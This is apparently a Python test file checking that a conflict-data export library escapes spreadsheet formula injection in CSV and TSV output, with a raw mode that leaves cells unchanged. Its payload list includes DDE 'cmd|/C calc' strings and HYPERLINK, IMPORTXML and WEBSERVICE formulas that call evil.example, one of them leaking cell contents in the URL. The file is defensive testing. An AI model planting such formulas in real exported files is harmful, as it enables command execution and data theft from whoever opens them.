"""S8: no cell of a table runs in a spreadsheet; `--raw` gives back exactly what was told."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dateline.export import FORMATS, Options, finish
from dateline.export.sheets import columns, make_safe, write_csv, write_tsv
from tests.export.made import incidents, records, source

COMMANDS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"here")', 'IMPORTXML("http://evil.example","//a")',
    "SUM(A1:A9)*cmd|x!A1", 'WEBSERVICE("http://evil.example")', "DDE(\"cmd\";\"/C calc\";\"x\")", "2+5+cmd|'/C calc'!A0",
]  # fmt: skip
PAYLOADS = [
    *(mark + command for mark in "=+-@" for command in COMMANDS),
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", "\u00a0=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\x00=1+1",
]  # fmt: skip
assert len(PAYLOADS) >= 40


def read(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8", "surrogatepass"), newline=""), delimiter=delimiter))


def runs(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula: a mark as its first visible character."""
    return cell.lstrip("\t\r\n \x00\ufeff\u00a0\u200b")[:1] in tuple("=+-@＝＋－＠") or cell[:1] in ("\t", "\r", "\n")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("name", ["incidents-csv", "accounts-csv", "reports-csv", "acled", "ucdp", "polecat"])
def test_no_payload_runs_wherever_it_stands(name, payload):
    numbers = set("latitude longitude Latitude Longitude".split())
    told, known = poisoned(payload)
    for raw in (False, True):
        data = finish(FORMATS[name].write(source([told], known=known), Options(raw=raw)))[0]
        heads, *rows = read(data, "\t" if name == "polecat" else ",")
        cells = [cell for row in rows for head, cell in zip(heads, row, strict=True) if head not in numbers]
        assert rows and any(runs(cell) for cell in cells) is raw
        assert any(payload in cell for cell in cells) or not raw


def poisoned(payload):
    """An incident whose report, parties and place are all named by the payload."""
    base = incidents()[0]
    known = {
        name: replace(record, document=replace(record.document, outlet=payload, title=payload, key=payload, language=payload))
        for name, record in records().items()
    }
    place = replace(base.place, name=payload, text=payload)
    return replace(base, title=payload, outlets=(payload,), agents=(payload,), targets=(payload,), place=place, story=payload), known


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_raw_csv_and_tsv_round_trip_whatever_the_text(table):
    heads = columns("a, b, c")
    for write, delimiter in ((write_csv, ","), (write_tsv, "\t")):
        data = b"".join(write(heads, table, raw=True))
        assert read(data, delimiter)[1:] == table


@given(st.text())
def test_safe_text_never_runs_and_loses_nothing(text):
    safe = make_safe(text)
    assert not runs(safe)
    assert safe in (text, "'" + text)


def test_numbers_keep_their_sign():
    line = b"".join(write_csv(columns("x, y", number="y"), [["-1", -1.5], [None, 2.0]], raw=False)).decode()
    assert line == "x,y\r\n'-1,-1.5\r\n,2\r\n"
